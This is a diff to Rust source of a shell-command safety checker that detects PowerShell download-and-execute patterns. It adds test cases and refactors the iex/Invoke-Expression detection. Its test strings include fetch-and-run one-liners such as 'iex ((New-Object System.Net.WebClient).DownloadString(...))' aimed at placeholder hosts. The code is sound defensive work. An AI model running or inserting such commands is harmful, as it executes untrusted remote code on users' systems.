@@ -100,8 +100,13 @@ pub static RULES: &[Rule] = &[
             "powershell \"iex (iwr http://x.example/a.ps1)\"",
             "pwsh -c \"Invoke-Expression (New-Object Net.WebClient).DownloadString('https://x.example/a.ps1')\"",
             "iex (iwr http://x)",
+            "iex ((New-Object System.Net.WebClient).DownloadString('https://x.example/install.ps1'))",
         ],
-        misses: &["powershell \"Invoke-WebRequest https://x.example -OutFile f\"", "powershell \"iex $command\""],
+        misses: &[
+            "powershell \"Invoke-WebRequest https://x.example -OutFile f\"",
+            "powershell \"iex $command\"",
+            "echo 'iex (iwr http://x)'",
+        ],
     },
     Rule {
         id: "windows.taskkill-force",
@@ -523,33 +528,38 @@ fn iwr_piped_to_iex(cmd: &Command) -> bool {
 fn iex_of_download(cmd: &Command) -> bool {
     let own = format!("{} {}", cmd.program, cmd.arg_line());
     let (_, scripts) = statements(cmd);
-    std::iter::once(own).chain(scripts).any(|text| {
-        let lower = text.to_ascii_lowercase();
-        ["iex", "invoke-expression"].iter().any(|name| {
-            lower.match_indices(name).any(|(i, _)| {
-                let before = lower[..i].chars().next_back();
-                let after = &lower[i + name.len()..];
-                let starts_word = before.is_none_or(|c| !(c.is_ascii_alphanumeric() || c == '-'));
-                let ends_word = after.chars().next().is_none_or(|c| c.is_whitespace() || c == '(');
-                starts_word && ends_word && mentions_download(after.split([';', '|']).next().unwrap_or(""))
-            })
+    std::iter::once(own).chain(scripts).any(|text| runs_download(&text))
+}
+
+/// Whether the text has an `iex`/`Invoke-Expression` whose argument downloads.
+fn runs_download(text: &str) -> bool {
+    let lower = text.to_ascii_lowercase();
+    ["iex", "invoke-expression"].iter().any(|name| {
+        lower.match_indices(name).any(|(i, _)| {
+            let before = lower[..i].chars().next_back();
+            let after = &lower[i + name.len()..];
+            let starts_word = before.is_none_or(|c| !(c.is_ascii_alphanumeric() || c == '-'));
+            let ends_word = after.chars().next().is_none_or(|c| c.is_whitespace() || c == '(');
+            starts_word && ends_word && mentions_download(after.split([';', '|']).next().unwrap_or(""))
         })
     })
 }
 
 /// `iex (iwr x)` is PowerShell, not POSIX: warden's parser reads it as an
-/// `iex` with no arguments followed by the download in a subshell.
+/// `iex` with no arguments followed by a subshell (or an arithmetic
+/// expression, for `iex ((...))`), so a bare `iex` is judged by the line's text.
 fn iex_remote(analysis: &Analysis) -> Option<String> {
     let commands = &analysis.commands;
     commands.iter().enumerate().find_map(|(i, cmd)| {
         if !IEX_PROGRAMS.contains(&cmd.program.as_str()) {
             return None;
         }
-        let bare_then_download = matches!(cmd.program.as_str(), "iex" | "invoke-expression")
-            && cmd.args.is_empty()
-            && commands.get(i + 1).is_some_and(|next| WEB_CMDLETS.contains(&next.program.as_str()));
-        if bare_then_download {
-            return Some(format!("{} ({})", cmd.display(), commands[i + 1].display()));
+        let bare = matches!(cmd.program.as_str(), "iex" | "invoke-expression") && cmd.args.is_empty();
+        if bare {
+            let next_downloads = commands.get(i + 1).is_some_and(|next| WEB_CMDLETS.contains(&next.program.as_str()));
+            if next_downloads || runs_download(&analysis.text) {
+                return Some(analysis.text.clone());
+            }
         }
         iex_of_download(cmd).then(|| cmd.display())
     })
